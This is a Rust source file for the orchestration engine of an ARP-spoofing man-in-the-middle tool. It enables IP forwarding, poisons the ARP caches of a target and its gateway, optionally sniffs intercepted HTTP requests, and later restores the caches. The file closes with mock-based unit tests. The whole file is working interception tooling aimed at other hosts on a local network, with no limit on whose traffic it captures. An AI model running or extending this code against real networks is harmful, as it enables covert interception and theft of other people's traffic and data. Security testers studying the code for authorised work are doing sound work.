//! MITM orchestration
//!
//! [`MitmEngine::run`] drives one complete session:
//!
//! 1. enable IP forwarding
//! 2. resolve target and gateway
//! 3. start the poison scheduler and, optionally, the HTTP sniffer
//! 4. wait for a shutdown signal or for either task to end
//! 5. cancel the session and stop the sniffer
//! 6. restore both ARP caches (exactly once)
//! 7. disable IP forwarding
//!
//! Steps 5 to 7 run however steps 1 to 4 ended, including task panics.
//! The shutdown signal is watched from step 2 on, so an interrupt during
//! resolution skips step 3 and goes straight to cleanup.

use crate::extractor::ProtocolExtractor;
use crate::forwarding::ForwardingControl;
use crate::link::Link;
use crate::resolver::Resolver;
use crate::restore::{RestoreReport, Restorer};
use crate::scheduler::PoisonScheduler;
use crate::spoof::SpoofEmitter;
use arpmitm_capture::{CaptureStats, FrameSource, PacketCapture};
use arpmitm_core::{ArpBinding, EngineConfig, Error, PoisonState, Result, Session, SessionStats};
use std::future::Future;
use std::sync::Arc;
use tokio::task::{JoinError, JoinHandle};
use tracing::{error, info, warn};

/// A sniffer ready to run: its controller plus an opened frame source
pub type CaptureSetup = (PacketCapture, Box<dyn FrameSource>);

/// Summary of a finished run
#[derive(Debug, Clone)]
pub struct RunReport {
    pub session: SessionStats,
    pub binding: ArpBinding,
    /// `None` if another caller already restored this session
    pub restore: Option<RestoreReport>,
    pub capture: Option<CaptureStats>,
}

/// Why the wait in step 4 ended
enum Exit {
    Shutdown,
    Poison(Result<()>),
    Capture(Result<()>),
}

type Task = JoinHandle<Result<()>>;

/// Everything started in step 3
struct Running {
    poison: Option<Task>,
    capture: Option<Task>,
    sniffer: Option<Arc<PacketCapture>>,
}

pub struct MitmEngine {
    config: EngineConfig,
    link: Arc<dyn Link>,
    forwarding: Arc<dyn ForwardingControl>,
    session: Arc<Session>,
}

impl MitmEngine {
    pub fn new(
        config: EngineConfig,
        link: Arc<dyn Link>,
        forwarding: Arc<dyn ForwardingControl>,
    ) -> Result<Self> {
        config.validate()?;
        Ok(Self {
            config,
            link,
            forwarding,
            session: Arc::new(Session::new()),
        })
    }

    pub fn config(&self) -> &EngineConfig {
        &self.config
    }

    /// Shared session: counters, state and cancellation
    pub fn session(&self) -> Arc<Session> {
        self.session.clone()
    }

    fn resolver(&self) -> Resolver {
        Resolver::new(self.link.clone(), self.config.resolve_timeout)
            .with_session(self.session.clone())
    }

    /// Run until `shutdown` completes or a task ends.
    ///
    /// The network is restored and forwarding disabled before this returns,
    /// whatever the outcome. The first fatal error is returned after cleanup.
    pub async fn run<S>(&self, capture: Option<CaptureSetup>, shutdown: S) -> Result<RunReport>
    where
        S: Future<Output = ()> + Send,
    {
        info!(
            session = %self.session.id(),
            interface = %self.link.name(),
            target = %self.config.target,
            gateway = %self.config.gateway,
            "Starting MITM session"
        );

        tokio::pin!(shutdown);

        if let Err(e) = self.set_forwarding(true).await {
            error!(error = %e, "Could not enable IP forwarding");
            self.session.cancel();
            self.session.set_state(PoisonState::Terminated);
            return Err(e);
        }

        let mut binding = ArpBinding::new(self.config.target, self.config.gateway);
        let mut first_error = None;
        let mut running = Running {
            poison: None,
            capture: None,
            sniffer: None,
        };

        let resolved = tokio::select! {
            res = self.resolve_binding(&mut binding) => Some(res),
            _ = &mut shutdown => None,
        };

        match resolved {
            Some(Ok(())) => {
                running = self.start(capture);
                if let Err(e) = self.wait(&mut running, &mut shutdown).await {
                    first_error = Some(e);
                }
            }
            Some(Err(e)) => first_error = Some(e),
            None => info!("Shutdown requested before poisoning started"),
        }

        // Shutdown sequence, always executed from here on
        self.session.cancel();
        let capture_stats = self.stop(running, &mut first_error).await;

        let restore = if self.session.begin_restore() {
            let restorer = Restorer::new(
                self.link.clone(),
                self.resolver(),
                self.session.clone(),
                self.config.restore_count,
                self.config.restore_interval,
            );
            Some(restorer.restore(self.config.target, self.config.gateway).await)
        } else {
            None
        };

        if let Err(e) = self.set_forwarding(false).await {
            error!(error = %e, "Could not disable IP forwarding");
            first_error.get_or_insert(e);
        }

        self.session.set_state(PoisonState::Terminated);
        let stats = self.session.stats();
        info!(
            session = %stats.id,
            packets_sent = stats.packets_sent,
            restore_frames = stats.restore_frames,
            "Session finished"
        );

        match first_error {
            Some(e) => Err(e),
            None => Ok(RunReport {
                session: stats,
                binding,
                restore,
                capture: capture_stats,
            }),
        }
    }

    /// The write may block on the filesystem, keep it off the runtime threads
    async fn set_forwarding(&self, enabled: bool) -> Result<()> {
        let forwarding = self.forwarding.clone();
        let joined = tokio::task::spawn_blocking(move || forwarding.set_forwarding(enabled)).await;
        flatten(joined, "forwarding toggle")
    }

    /// Both sides must answer before anything is poisoned
    async fn resolve_binding(&self, binding: &mut ArpBinding) -> Result<()> {
        let resolver = self.resolver();
        for ip in [binding.target_ip(), binding.gateway_ip()] {
            let mac = resolver.resolve(ip).await;
            binding.update(ip, mac);
            if mac.is_none() {
                error!(ip = %ip, "Could not resolve, aborting");
                return Err(Error::Unresolved(ip));
            }
        }
        info!(binding = %binding, "Resolved both sides");
        Ok(())
    }

    fn start(&self, capture: Option<CaptureSetup>) -> Running {
        let resolver = self.resolver();
        let emitter = SpoofEmitter::new(self.link.clone(), resolver, self.session.clone());
        let scheduler = PoisonScheduler::new(
            emitter,
            self.session.clone(),
            self.config.target,
            self.config.gateway,
            self.config.poison_interval,
        );
        let poison = tokio::spawn(async move { scheduler.run().await });

        let (capture, sniffer) = match capture {
            Some((packet_capture, mut source)) if self.config.capture_http => {
                let packet_capture = Arc::new(packet_capture);
                let extractor = ProtocolExtractor::new().with_stats(packet_capture.stats_handle());
                let task_capture = packet_capture.clone();
                let task = tokio::task::spawn_blocking(move || {
                    task_capture.run(source.as_mut(), |frame| {
                        extractor.process(frame);
                    })
                });
                (Some(task), Some(packet_capture))
            }
            _ => (None, None),
        };

        Running {
            poison: Some(poison),
            capture,
            sniffer,
        }
    }

    async fn wait<S>(&self, running: &mut Running, shutdown: S) -> Result<()>
    where
        S: Future<Output = ()> + Send,
    {
        tokio::pin!(shutdown);

        let exit = tokio::select! {
            _ = &mut shutdown => Exit::Shutdown,
            res = join_slot(&mut running.poison, "poison scheduler") => Exit::Poison(res),
            res = join_slot(&mut running.capture, "packet capture") => Exit::Capture(res),
        };

        match exit {
            Exit::Shutdown => {
                info!("Shutdown requested");
                Ok(())
            }
            Exit::Poison(res) => {
                running.poison = None;
                warn!("Poison scheduler ended on its own");
                res
            }
            Exit::Capture(res) => {
                running.capture = None;
                match &res {
                    Ok(()) => warn!("Packet capture ended on its own"),
                    Err(e) => error!(error = %e, "Packet capture failed"),
                }
                res
            }
        }
    }

    /// Stop the sniffer and join whatever is still running
    async fn stop(&self, running: Running, first_error: &mut Option<Error>) -> Option<CaptureStats> {
        if let Some(sniffer) = &running.sniffer {
            sniffer.stop();
        }

        for (task, name) in [
            (running.poison, "poison scheduler"),
            (running.capture, "packet capture"),
        ] {
            if let Some(task) = task {
                if let Err(e) = flatten(task.await, name) {
                    first_error.get_or_insert(e);
                }
            }
        }

        running.sniffer.map(|sniffer| {
            let stats = sniffer.stats();
            info!(stats = %stats.format(), "Capture statistics");
            stats
        })
    }
}

async fn join_slot(slot: &mut Option<Task>, name: &str) -> Result<()> {
    match slot.as_mut() {
        Some(task) => flatten(task.await, name),
        None => std::future::pending().await,
    }
}

fn flatten(joined: std::result::Result<Result<()>, JoinError>, name: &str) -> Result<()> {
    match joined {
        Ok(result) => result,
        Err(e) if e.is_panic() => {
            error!(task = name, "Task panicked");
            Err(Error::ExecutionFailed(format!("{} panicked", name)))
        }
        Err(e) => Err(Error::ExecutionFailed(format!("{} failed: {}", name, e))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mock::{gateway_ip, target_ip, MockForwarding, MockLink, ScriptedSource};
    use arpmitm_capture::{CaptureConfig, InterfaceInfo};
    use arpmitm_core::MacAddr;
    use arpmitm_packet::{EtherType, PacketBuilder, TcpFlags};
    use std::net::Ipv4Addr;
    use std::time::Duration;

    fn config() -> EngineConfig {
        EngineConfig::new("mock0", target_ip(), gateway_ip())
            .with_poison_interval(Duration::from_millis(20))
            .with_resolve_timeout(Duration::from_millis(100))
            .with_restore_interval(Duration::ZERO)
    }

    fn engine(link: Arc<MockLink>, forwarding: Arc<MockForwarding>) -> MitmEngine {
        MitmEngine::new(config(), link, forwarding).unwrap()
    }

    fn sniffer(source: ScriptedSource) -> Option<CaptureSetup> {
        let info = InterfaceInfo {
            name: "mock0".to_string(),
            description: String::new(),
            index: 1,
            mac: Some(MacAddr::new([0x02, 0, 0, 0, 0, 0x01])),
            ips: Vec::new(),
            is_up: true,
            is_loopback: false,
            is_multicast: false,
        };
        let capture = PacketCapture::with_info(info, CaptureConfig::default());
        Some((capture, Box::new(source)))
    }

    fn http_request() -> Vec<u8> {
        PacketBuilder::new()
            .ethernet(
                MacAddr::new([0x02, 0, 0, 0, 0, 0x14]),
                MacAddr::new([0x02, 0, 0, 0, 0, 0x01]),
                EtherType::IPv4,
            )
            .ipv4(target_ip(), Ipv4Addr::new(93, 184, 216, 34))
            .tcp(51000, 80, 1, 1, TcpFlags::PSH_ACK)
            .payload(b"GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n".to_vec())
            .build()
            .unwrap()
    }

    fn after(ms: u64) -> impl Future<Output = ()> + Send {
        tokio::time::sleep(Duration::from_millis(ms))
    }

    #[tokio::test]
    async fn test_interrupt_restores_once() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = engine(link.clone(), forwarding.clone());

        let report = engine
            .run(sniffer(ScriptedSource::new(vec![http_request()])), after(100))
            .await
            .unwrap();

        assert_eq!(forwarding.calls(), vec![true, false]);
        assert_eq!(report.session.restore_attempts, 1);
        assert_eq!(report.session.state, PoisonState::Terminated);
        assert!(report.session.packets_sent >= 2);
        assert_eq!(report.session.packets_sent % 2, 0);
        assert!(report.binding.is_resolved());

        let restore = report.restore.unwrap();
        assert!(restore.is_complete());
        assert_eq!(restore.frames_sent(), 8);

        let capture = report.capture.unwrap();
        assert_eq!(capture.http_requests, 1);

        // Restoration is claimed for good
        assert!(!engine.session().begin_restore());
    }

    #[tokio::test]
    async fn test_interrupt_during_blocking_read() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = engine(link, forwarding.clone());

        // Each read takes longer than the time to the interrupt
        let source = ScriptedSource::new(vec![http_request(), http_request()])
            .with_delay(Duration::from_millis(150));
        let report = engine.run(sniffer(source), after(50)).await.unwrap();

        assert_eq!(report.session.restore_attempts, 1);
        assert_eq!(report.restore.unwrap().frames_sent(), 8);
        assert_eq!(forwarding.calls(), vec![true, false]);
        // The read in flight finished and was processed, nothing after it
        assert_eq!(report.capture.unwrap().http_requests, 1);
    }

    #[tokio::test]
    async fn test_runs_without_sniffer() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = engine(link.clone(), forwarding.clone());

        let report = engine.run(None, after(60)).await.unwrap();
        assert!(report.capture.is_none());
        assert!(report.session.packets_sent >= 2);

        // Poisoning replies claim the operator's MAC, restore replies do not
        let operator = link.mac();
        let replies = link.sent_replies();
        assert!(replies.iter().any(|(_, r)| r.sender_hw_addr == operator));
        assert_eq!(
            replies
                .iter()
                .filter(|(_, r)| r.sender_hw_addr != operator)
                .count(),
            8
        );
    }

    #[tokio::test]
    async fn test_unresolved_gateway_aborts() {
        let link = Arc::new(MockLink::lan());
        link.remove_host(gateway_ip());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = engine(link.clone(), forwarding.clone());

        let result = engine.run(None, after(1000)).await;
        assert!(matches!(result, Err(Error::Unresolved(ip)) if ip == gateway_ip()));

        let session = engine.session();
        assert_eq!(session.packets_sent(), 0);
        assert_eq!(session.stats().restore_attempts, 1);
        assert_eq!(session.state(), PoisonState::Terminated);
        assert_eq!(forwarding.calls(), vec![true, false]);

        // Only the target could be corrected
        let replies = link.sent_replies();
        assert_eq!(replies.len(), 4);
        assert!(replies.iter().all(|(_, r)| r.sender_proto_addr == target_ip()));
    }

    #[tokio::test]
    async fn test_capture_failure_still_restores() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = engine(link, forwarding.clone());

        let source = ScriptedSource::new(vec![http_request()]).then_fail("device went away");
        let result = engine.run(sniffer(source), after(5000)).await;

        assert!(matches!(result, Err(Error::Capture(_))));
        let stats = engine.session().stats();
        assert_eq!(stats.restore_attempts, 1);
        assert_eq!(stats.restore_frames, 8);
        assert_eq!(forwarding.calls(), vec![true, false]);
    }

    #[tokio::test]
    async fn test_forwarding_failure_sends_nothing() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::failing());
        let engine = engine(link.clone(), forwarding.clone());

        let result = engine.run(None, after(1000)).await;
        assert!(matches!(result, Err(Error::Forwarding(_))));
        assert!(link.sent_frames().is_empty());
        assert_eq!(engine.session().stats().restore_attempts, 0);
    }

    #[tokio::test]
    async fn test_sniffer_disabled_by_config() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = MitmEngine::new(
            config().with_capture_http(false),
            link,
            forwarding,
        )
        .unwrap();

        let report = engine
            .run(sniffer(ScriptedSource::new(vec![http_request()])), after(40))
            .await
            .unwrap();
        assert!(report.capture.is_none());
    }

    #[tokio::test]
    async fn test_interrupt_during_resolution() {
        let link = Arc::new(MockLink::lan());
        link.remove_host(gateway_ip());
        let forwarding = Arc::new(MockForwarding::new());
        let engine = MitmEngine::new(
            config().with_resolve_timeout(Duration::from_millis(300)),
            link.clone(),
            forwarding.clone(),
        )
        .unwrap();

        // The interrupt is already pending when the gateway lookup starts
        let report = engine.run(None, std::future::ready(())).await.unwrap();

        assert_eq!(forwarding.calls(), vec![true, false]);
        assert_eq!(report.session.packets_sent, 0);
        assert_eq!(report.session.restore_attempts, 1);
        assert_eq!(report.session.state, PoisonState::Terminated);
        assert!(!report.binding.is_resolved());
        // Only the lookup made by restoration ran to its timeout
        assert_eq!(report.session.resolve_failures, 1);
        assert!(link
            .sent_replies()
            .iter()
            .all(|(_, r)| r.sender_hw_addr != link.mac()));
    }

    #[tokio::test]
    async fn test_forwarding_toggled_off_runtime_thread() {
        struct ThreadRecorder(parking_lot::Mutex<Vec<std::thread::ThreadId>>);

        impl ForwardingControl for ThreadRecorder {
            fn set_forwarding(&self, _enabled: bool) -> Result<()> {
                self.0.lock().push(std::thread::current().id());
                Ok(())
            }
        }

        // A current-thread runtime polls everything on this thread
        let runtime_thread = std::thread::current().id();
        let recorder = Arc::new(ThreadRecorder(parking_lot::Mutex::new(Vec::new())));
        let engine =
            MitmEngine::new(config(), Arc::new(MockLink::lan()), recorder.clone()).unwrap();
        engine.run(None, after(40)).await.unwrap();

        let threads = recorder.0.lock().clone();
        assert_eq!(threads.len(), 2);
        assert!(threads.iter().all(|id| *id != runtime_thread));
    }

    #[test]
    fn test_rejects_invalid_config() {
        let link = Arc::new(MockLink::lan());
        let forwarding = Arc::new(MockForwarding::new());
        let result = MitmEngine::new(
            EngineConfig::new("mock0", target_ip(), target_ip()),
            link,
            forwarding,
        );
        assert!(matches!(result, Err(Error::InvalidParameter { .. })));
    }
}
